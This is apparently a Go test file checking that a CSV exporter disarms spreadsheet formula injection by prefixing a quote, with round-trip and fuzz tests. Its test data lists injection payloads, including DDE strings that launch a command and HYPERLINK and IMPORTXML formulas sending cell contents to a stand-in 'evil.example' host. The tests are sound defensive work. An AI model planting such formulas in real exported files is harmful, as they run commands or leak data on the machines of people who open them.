package file

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/weirhq/weir"
)

// formulas are texts that spreadsheets run, or ran in some version.
var formulas = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
	"\t=1", "\r=1", "\n=1", "\t", " =1", "  =1", "\"=1", "'=1", "''=1", " '\"=1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1",
	"＝1+1", "＋1", "－1", "＠SUM(1)", "\u22121", "=", "+", "-", "@", "-", "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
	"=IMPORTXML(CONCAT(\"http://evil.example?\",CONCATENATE(A2:E2)),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+491701234567", "-0",
	"\x00=1", "\v=1", "\f=1",
}

var harmless = []string{"", "a=1", "1+1", "a", "1", "'", "'quoted'", "\"", "日本語", " ", "user@example.com", "x-y", "#REF!", "{=1}"}

func TestFormulasAreDisarmedInCSV(t *testing.T) {
	for _, s := range formulas {
		g := guard(s)
		if !strings.HasPrefix(g, "'") || g[1:] != s {
			t.Errorf("%q became %q", s, g)
		}
		if unguard(g) != s {
			t.Errorf("%q came back as %q", s, unguard(g))
		}
	}
	for _, s := range harmless {
		if guard(s) != s || unguard(s) != s {
			t.Errorf("%q became %q, %q", s, guard(s), unguard(s))
		}
	}
}

func TestOtherReadersOfCSVSeeTheTextBehindTheGuard(t *testing.T) {
	columns := []weir.Column{{Name: "a", Type: weir.TypeText}, {Name: "n", Type: weir.TypeInt}, {Name: "j", Type: weir.TypeJSON}, {Name: "f", Type: weir.TypeFloat}}
	var b bytes.Buffer
	w := newCSVWriter(&b, columns, true)
	all := append(append([]string{}, formulas...), harmless...)
	for _, s := range all {
		must(t, w.Write([]any{s, int64(-5), "-5", -1.5}))
	}
	must(t, w.Close())
	rows, err := csv.NewReader(&b).ReadAll()
	must(t, err)
	if diff := cmp.Diff([]string{"a", "n", "j", "f"}, rows[0]); diff != "" {
		t.Error(diff)
	}
	for i, s := range all {
		got := rows[i+1]
		if unguard(got[0]) != s || got[1] != "-5" || got[2] != "-5" || got[3] != "-1.5" {
			t.Errorf("%q: %q", s, got)
		}
	}
}

func TestCSVWithoutTheGuardIsTheTextItself(t *testing.T) {
	var b bytes.Buffer
	w := newWriter(&b, weir.Table{Columns: []weir.Column{{Name: "a", Type: weir.TypeText}}}, Options{Format: FormatCSV, AllowFormulas: true})
	must(t, w.Write([]any{"=1"}))
	must(t, w.Write([]any{nil}))
	must(t, w.Write([]any{""}))
	must(t, w.Close())
	if got := b.String(); got != "a\r\n=1\r\n\r\n\"\"\r\n" {
		t.Errorf("%q", got)
	}
}

func FuzzTextComesBackFromCSV(f *testing.F) {
	for _, s := range append(formulas, harmless...) {
		f.Add(s, "x\"y", true)
	}
	columns := []weir.Column{{Name: "a", Type: weir.TypeText}, {Name: "b", Type: weir.TypeText}, {Name: "c", Type: weir.TypeInt}}
	f.Fuzz(func(t *testing.T, a, b string, guarded bool) {
		var out bytes.Buffer
		w := newCSVWriter(&out, columns, guarded)
		want := [][]any{{a, b, int64(1)}, {nil, a, nil}, {b, nil, int64(-1)}}
		for _, row := range want {
			must(t, w.Write(row))
		}
		must(t, w.Close())
		r, err := newCSVReader(&out, columns, guarded)
		must(t, err)
		for _, row := range want {
			got := make([]any, 3)
			must(t, r.Read(got))
			if diff := cmp.Diff(row, got); diff != "" {
				t.Error(diff)
			}
		}
	})
}

func FuzzCSVReaderNeverPanics(f *testing.F) {
	f.Add([]byte("a,b\r\n1,\"x\"\"\"\r\n"))
	f.Fuzz(func(_ *testing.T, b []byte) {
		r, err := newCSVReader(bytes.NewReader(b), []weir.Column{{Name: "a", Type: weir.TypeInt}, {Name: "b", Type: weir.TypeText}}, true)
		if err != nil {
			return
		}
		row := make([]any, 2)
		for range 1000 {
			if r.Read(row) != nil {
				return
			}
		}
	})
}

func FuzzManifestReaderNeverPanics(f *testing.F) {
	f.Add([]byte("MANIFEST-0000000001.json\n" + strings.Repeat("0", 64) + "\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if seq, hash, ok := decodeCurrent(b); ok && string(encodeCurrent(seq, hash)) != strings.TrimSuffix(string(b), "\n")+"\n" {
			t.Errorf("%q is not what is written for %d", b, seq)
		}
	})
}
